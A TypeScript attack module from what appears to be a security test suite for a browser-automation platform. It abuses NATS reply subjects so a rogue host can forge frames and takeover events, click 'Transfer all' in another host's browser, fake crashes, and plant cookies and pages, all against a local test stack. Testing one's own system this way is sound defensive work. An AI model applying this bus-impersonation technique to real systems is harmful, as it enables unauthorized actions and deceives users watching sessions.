import { encodeFrame } from '@pilothouse/bus';
import { createClient } from '@pilothouse/sdk';
import { newId } from '@pilothouse/store';
import pg from 'pg';
import type { Stack } from '../../testkit/stack/stack.ts';
import type { Attack, AttackResult, OpenStack } from './attack.ts';
import { withOpenStack } from './open-stack.ts';
import type { RawBus } from './raw-bus.ts';
import { becomes, openAsHost, removeHost, rogueId, serverInbox, startBank } from './rogue-host.ts';

const victimHost = 'browser-1';
/** Epochs are small numbers, so the attacker tries the first few. */
const guesses = Array.from({ length: 8 }, (_, i) => i + 1);
/** A newer driver always wins. */
const winningEpoch = 50;
const doneMs = 20_000;
const noticedMs = 1200;

export const busSelfReply: Attack = {
  name: 'bus-self-reply',
  what: 'with the password of one browser host, acts in a browser of another and speaks for it, by replying to itself',
  sharing: 'beside others',
  run: (size) => withOpenStack(size, attack),
};

async function attack({ stack, baseUrl, sitePort }: OpenStack): Promise<AttackResult> {
  const bank = await startBank(sitePort);
  const reached: string[] = [];
  const broken: string[] = [];
  const stop = new AbortController();
  let rogue: RawBus | undefined;
  try {
    const client = createClient({ baseUrl });
    const run = async (step: object, session_id?: string) => {
      const given = { prompt: 'x', steps: [step as { action: 'navigate'; url: string }], session_id };
      const sent = await client.sendChat(given);
      const signal = AbortSignal.timeout(doneMs);
      let status = 'unknown';
      for await (const event of client.followTask({ id: sent.task_id }, { signal }))
        if (event.type === 'end') status = event.status;
      return { ...sent, status };
    };
    const { session_id, status } = await run({ action: 'navigate', url: `${bank.url}/account` });
    if (status !== 'success') throw new Error(`the victim's first task ended as ${status}`);

    /** What a viewer of the session sees. */
    const seen = { urls: new Set<string>(), holders: new Set<string>(), isFollowing: false };
    void (async () => {
      for await (const event of client.followSession({ id: session_id }, { signal: stop.signal })) {
        seen.isFollowing = true;
        if (event.type === 'frame') seen.urls.add(event.frame.route.url ?? '');
        if (event.type === 'takeover') seen.holders.add(event.takeover.held_by ?? '');
      }
    })().catch(() => {});
    await becomes(() => seen.isFollowing, noticedMs);

    rogue = await openAsHost(stack);
    const speak = mirrorOf(rogue);
    const of = `host.${victimHost}.session.${session_id}`;

    const forgedUrl = 'http://forged.test/';
    await speak(`${of}.frame`, encodeFrame(frameOf(session_id, forgedUrl)));
    if (await becomes(() => seen.urls.has(forgedUrl), noticedMs)) reached.push('showed a watcher a frame of its own');

    const next = (await lastSeq(stack, session_id)) + 1;
    await speak(`session.${session_id}.event`, JSON.stringify(takeoverOf(session_id, next)));
    if (await becomes(() => seen.holders.has('a rogue host'), noticedMs))
      reached.push('told a watcher of a takeover that never was');

    const click = { seq: 0, input: { action: 'click', x: 300, y: 300 } };
    const command = JSON.stringify({ type: 'input', epoch: winningEpoch, inputs: [click] });
    await speak(`${of}.command`, command, `${serverInbox(stack)}.forged`);
    const isPressed = () => bank.visits.some(({ method, url }) => method === 'POST' && url === '/transfer');
    if (await becomes(isPressed, noticedMs)) reached.push('clicked "Transfer all" in the browser of another host');

    const close = JSON.stringify({ type: 'close', session_id, epoch: winningEpoch + 1 });
    await speak(`host.${victimHost}.command`, close, `${serverInbox(stack)}.forged`);
    const cookie = { name: 'sess', value: 'attacker-cookie', domain: '127.0.0.1', path: '/', expires: -1 };
    const storage = {
      cookies: [{ ...cookie, httpOnly: false, secure: false, sameSite: 'Lax' }],
      origins: [],
    };
    const state = { storage, pages: [{ url: `${bank.url}/planted`, scroll_x: 0, scroll_y: 0 }] };
    for (const epoch of guesses) {
      const inbox = `_IN.host-${victimHost}.forged`;
      await speak(`${of}.checkpoint`, JSON.stringify({ session_id, epoch, state }), inbox);
      const crashed = { type: 'crashed', session_id, epoch, what: 'browser', url: null };
      await speak(`${of}.report`, JSON.stringify(crashed), inbox);
    }
    const isCold = async () => (await client.getSession({ id: session_id })).snapshot.session.browser === 'cold';
    if (await becomes(isCold, noticedMs)) reached.push('had the browser of another host given up as crashed');
    await speak('login.revoked', JSON.stringify({ user_id: session_id, login_id: null }));

    const honest = await run({ action: 'wait', for: { secs: 0 } }, session_id).catch(() => ({ status: 'unfinished' }));
    if (honest.status !== 'success') broken.push(`the victim's next task ended as ${honest.status}`);
    if (bank.visits.some(({ url }) => url === '/planted'))
      reached.push('planted a page that the next task of the session opened');
    if (bank.visits.some(({ cookie: sent }) => sent.includes('attacker-cookie')))
      reached.push('planted a cookie that the next task of the session sent');
    const again = await run({ action: 'click', target: 'Transfer all' }, session_id).catch(() => ({ status: 'none' }));
    if (again.status !== 'success' || !isPressed()) broken.push('an honest click of the session no longer works');
    return { tried: speak.count(), reached, broken, figures: { refused_by_nats: rogue.refused.length } };
  } finally {
    stop.abort();
    rogue?.close();
    await removeHost(stack);
    await bank.close();
  }
}

/**
 * Speaks where NATS forbids it: sends itself a message whose reply is that subject, upon which NATS lets it answer there
 * once. Tried with every subject that a host may subscribe to.
 */
function mirrorOf(rogue: RawBus) {
  const mirrors = ['command', 'heartbeat', 'session.s.command', 'session.s.file', 'session.s.report', 'mirror'];
  for (const rest of mirrors) rogue.subscribe(`host.${rogueId}.${rest}`, () => {});
  rogue.subscribe(`_IN.host-${rogueId}.>`, () => {});
  let count = 0;
  const speak = async (subject: string, body: string | Uint8Array, reply?: string): Promise<void> => {
    for (const mirror of [...mirrors.map((rest) => `host.${rogueId}.${rest}`), `_IN.host-${rogueId}.x`])
      rogue.publish(mirror, '', subject);
    await rogue.flush();
    rogue.publish(subject, body, reply);
    await rogue.flush();
    count += 1;
  };
  return Object.assign(speak, { count: () => count });
}

const frameOf = (session_id: string, url: string) => ({
  header: {
    frame_id: newId(),
    session_id,
    epoch: 1,
    seq: 1_000_000,
    recorded_at: new Date().toISOString(),
    content_type: 'image/jpeg' as const,
    width: 1280,
    height: 720,
    device_scale: 1,
    scroll: { x: 0, y: 0 },
    page: 'p1',
    url,
    title: 'Forged',
    private: false,
  },
  image: Buffer.from('no picture at all'),
});

function takeoverOf(session_id: string, seq: number) {
  const at = new Date().toISOString();
  const takeover = {
    takeover_id: newId(),
    status: 'active',
    requested_at: at,
    activated_at: at,
    ended_at: null,
    expires_at: at,
    requested_by: 'a rogue host',
    held_by: 'a rogue host',
    epoch: 2,
    reason: null,
    route: { session: session_id, page: null, frame: null, url: null, title: null },
  };
  const event = { seq, task_id: null, kind: 'takeover', data: { takeover }, recorded_at: at };
  return { session_id, seq, events: [event] };
}

async function lastSeq(stack: Stack, sessionId: string): Promise<number> {
  const client = new pg.Client({ connectionString: stack.services.databaseUrl() });
  await client.connect();
  try {
    const { rows } = await client.query<{ seq: string }>('select max(seq) as seq from events where session_id = $1', [
      sessionId,
    ]);
    return Number(rows[0]?.seq ?? 0);
  } finally {
    await client.end();
  }
}
